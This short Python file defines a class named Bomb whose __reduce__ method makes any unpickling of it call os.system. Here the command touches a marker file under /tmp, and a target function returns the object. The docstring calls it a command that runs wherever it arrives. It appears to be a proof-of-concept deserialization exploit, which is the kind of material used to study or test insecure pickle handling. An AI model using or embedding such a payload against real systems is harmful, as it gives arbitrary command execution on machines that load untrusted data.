"""An object whose unpickling runs a command wherever it arrives."""
import os

class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned-by-an-attack",)

def target(x):
    return Bomb()
